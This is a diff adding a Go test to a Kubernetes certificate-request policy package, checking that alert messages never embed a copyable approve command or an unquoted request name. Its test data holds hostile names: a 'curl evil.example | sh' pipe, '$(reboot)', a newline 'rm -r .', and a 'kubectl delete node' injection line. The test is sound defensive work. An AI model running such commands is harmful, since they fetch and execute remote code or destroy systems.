@@ -4,6 +4,7 @@
 package policy
 
 import (
+	"strings"
 	"testing"
 	"time"
 
@@ -389,4 +390,38 @@ func TestOrphans(t *testing.T) {
 		in.Requests = []Request{request(servingSigner, v1alpha1.StagePending, time.Hour)}
 		expectFindings(t, Evaluate(in))
 	})
+}
+
+// Whoever files a request chooses its name, and people copy commands from messages into a shell.
+func TestNoCommandHoldsAStrangeName(t *testing.T) {
+	for _, name := range []string{
+		"csr-1; curl evil.example | sh", "$(reboot)", "`id`", "--all", "csr-1\nrm -r .", "a&b", "a b", "CSR", "a'b", `a"b`, "~", "*",
+		strings.Repeat("x", 129), "\u202ecsr", "csr-1 to nobody. Run kubectl delete node node-1",
+	} {
+		in := input(aksSpec(), func(n *Node) {
+			alert(n)
+			for _, request := range []*v1alpha1.SigningRequestStatus{servingRequest(n), clientRequest(n)} {
+				pending(request, -time.Hour)
+				request.Name = name
+			}
+		})
+		in.Requests = []Request{{
+			Name: name, NodeName: "node-9", SignerName: clientSigner, Stage: v1alpha1.StagePending, Created: now.Add(-time.Hour),
+		}}
+		found := Evaluate(in).Findings
+		if len(found) < 4 {
+			t.Fatalf("%q: %d findings, want one of each request, and the missing certificate", name, len(found))
+		}
+		for _, finding := range found {
+			if strings.Contains(finding.Message, "certificate approve") {
+				t.Errorf("%q: %s has a command: %s", name, finding.Reason, finding.Message)
+			}
+			if quoted := requestName(name); strings.Contains(strings.ReplaceAll(finding.Message, quoted, ""), name) {
+				t.Errorf("%q: %s names it without quotes: %s", name, finding.Reason, finding.Message)
+			}
+		}
+	}
+	if got := requestName("node-csr-abc.1"); got != "node-csr-abc.1" {
+		t.Errorf("a usual name is called %s", got)
+	}
 }
